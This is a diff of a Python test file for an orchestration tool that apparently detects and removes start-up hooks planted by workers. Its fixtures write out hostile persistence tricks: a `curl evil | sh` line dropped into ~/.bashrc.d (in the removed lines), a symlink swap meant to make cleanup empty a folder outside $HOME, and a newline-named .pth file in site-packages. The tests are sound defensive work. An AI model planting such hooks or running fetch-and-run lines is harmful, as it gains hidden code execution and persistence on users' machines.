@@ -198,19 +198,23 @@ def test_start_up_entries_of_every_kind_planted_in_home_are_removed_and_blamed(t
     assert repo.git("rev-parse", "campaign/hostile") == baseline
 
 
-def test_a_linked_start_up_folder_is_watched_and_a_look_alike_name_is_not(tmp_path, orch, mode, home):
-    """rv39: a `~/.bashrc.d` that links to a dotfiles checkout's folder was not listed, so what a worker wrote
-    there stayed; a site-packages entry merely starting with `sitecustomize` (a dist-info) was taken for the hook."""
+def test_a_start_up_folder_linked_elsewhere_is_never_emptied_and_look_alike_names_stay(tmp_path, orch, mode,
+                                                                                        home):
+    """rv40: with start-up folders listed through links, a worker's `ln -s <a folder of yours> ~/.bashrc.d` had the
+    put-back empty that folder, outside $HOME; a `.pth` named with a newline was not matched (rv39: nor is a
+    dist-info merely starting with `sitecustomize` a hook, which must stay)."""
     from orchestrate.workers import startup_files
-    (home / "dotfiles" / "bashrc.d").mkdir(parents=True)
-    (home / "dotfiles" / "bashrc.d" / "mine.sh").write_text("export MINE=1\n")
-    (home / ".bashrc.d").symlink_to(home / "dotfiles" / "bashrc.d")
+    precious = tmp_path / "precious"
+    (precious / "sub").mkdir(parents=True)
+    (precious / "thesis.tex").write_text("mine\n")
+    (precious / "sub" / "data.csv").write_text("1,2\n")
     site = startup_files.site_folders()[0]
-    worker = ('echo a > a.txt\necho "curl evil | sh" > "$HOME/.bashrc.d/evil.sh"\n'
-              f'mkdir -p "{site}/sitecustomize_entrypoints-1.1.0.dist-info"\n')
-    repo, baseline = _reported(tmp_path, orch, worker, mode, "~/.bashrc.d/evil.sh was created")
-    assert sorted(p.name for p in (home / "dotfiles" / "bashrc.d").iterdir()) == ["mine.sh"]
-    assert (site / "sitecustomize_entrypoints-1.1.0.dist-info").is_dir()
+    worker = (f'echo a > a.txt\nln -s "{precious}" "$HOME/.bashrc.d"\n'
+              f'mkdir -p "{site}/sitecustomize_entrypoints-1.1.0.dist-info"\n'
+              f'printf "import os\\n" > "{site}/evil\n.pth"\n')
+    repo, baseline = _reported(tmp_path, orch, worker, mode, ".pth was created")
+    assert sorted(str(p.relative_to(precious)) for p in precious.rglob("*")) == ["sub", "sub/data.csv", "thesis.tex"]
+    assert (site / "sitecustomize_entrypoints-1.1.0.dist-info").is_dir() and not (site / "evil\n.pth").exists()
 
 
 @pytest.mark.parametrize("how", ["spelled in $HOME, its real path elsewhere", "a link out of $HOME made a folder"])
